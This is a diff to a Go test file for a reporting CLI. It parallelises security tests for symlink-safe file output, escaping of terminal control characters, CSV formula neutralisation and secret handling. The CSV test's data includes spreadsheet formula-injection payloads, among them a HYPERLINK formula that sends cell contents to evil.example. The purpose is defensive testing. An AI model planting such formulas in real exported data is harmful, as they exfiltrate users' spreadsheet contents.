@@ -21,7 +21,8 @@ import (
 // symbolic link, without creating the file a dangling link points to, and
 // replaces nothing without --force.
 func TestOutputFilesNeverFollowLinks(t *testing.T) {
-	srv := bulkServer(t)
+	t.Parallel()
+	srv := bulkServer(t, readyViews()...)
 	srv.AddReport(fake.Report{ID: 7, Name: "Deals", Columns: []fake.Column{{ID: "0", Name: "Zone"}}, Rows: [][]any{{"EMEA"}}})
 	c := newCLI(srv)
 	in := filepath.Join(t.TempDir(), "accounts.csv")
@@ -92,7 +93,8 @@ func noTerminalControl(t *testing.T, what, s string) {
 // output and messages carrying the service's text reach the terminal with
 // their control characters escaped.
 func TestTerminalOutputEscapesControls(t *testing.T) {
-	srv := fake.NewServer()
+	t.Parallel()
+	srv := fake.NewServer(readyViews()...)
 	t.Cleanup(srv.Close)
 	srv.AddReport(fake.Report{ID: 7, Name: "Deals" + hostile,
 		Columns: []fake.Column{{ID: "0", Name: "Zone" + hostile}, {ID: "1", Name: "Amount", Type: "NUMBER"}},
@@ -133,7 +135,8 @@ func TestTerminalOutputEscapesControls(t *testing.T) {
 // +, -, @, tab or carriage return get a quote before them, negative
 // numbers included; --raw-csv writes them as they are.
 func TestCSVExportNeutralisesFormulas(t *testing.T) {
-	srv := fake.NewServer()
+	t.Parallel()
+	srv := fake.NewServer(readyViews()...)
 	t.Cleanup(srv.Close)
 	cells := []any{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-5", "@SUM(A1:A2)", "\t=1", "\r=1", "plain", "a=b"}
 	cols := make([]fake.Column, len(cells))
@@ -181,6 +184,7 @@ func TestCSVExportNeutralisesFormulas(t *testing.T) {
 // variable instead of a flag (visible in the process list), and --help
 // says so.
 func TestSecretsWithoutFlags(t *testing.T) {
+	t.Parallel()
 	const key = "sk-file-0123456789"
 	srv := fake.NewServer(fake.WithDemoData(), fake.WithDeployment(fake.Deployment{SubscriptionKey: key}))
 	t.Cleanup(srv.Close)
@@ -214,6 +218,7 @@ func TestSecretsWithoutFlags(t *testing.T) {
 // decodes to the text received (invalid UTF-8 read as U+FFFD, as a JSON
 // decoder reads it).
 func TestPrintDeliveryOnTerminalIsJSON(t *testing.T) {
+	t.Parallel()
 	// As a sender writes it: C0 controls escaped, DEL, C1 and bidi raw;
 	// then a byte of invalid UTF-8.
 	name, _ := json.Marshal("a" + hostile + "\x7f")
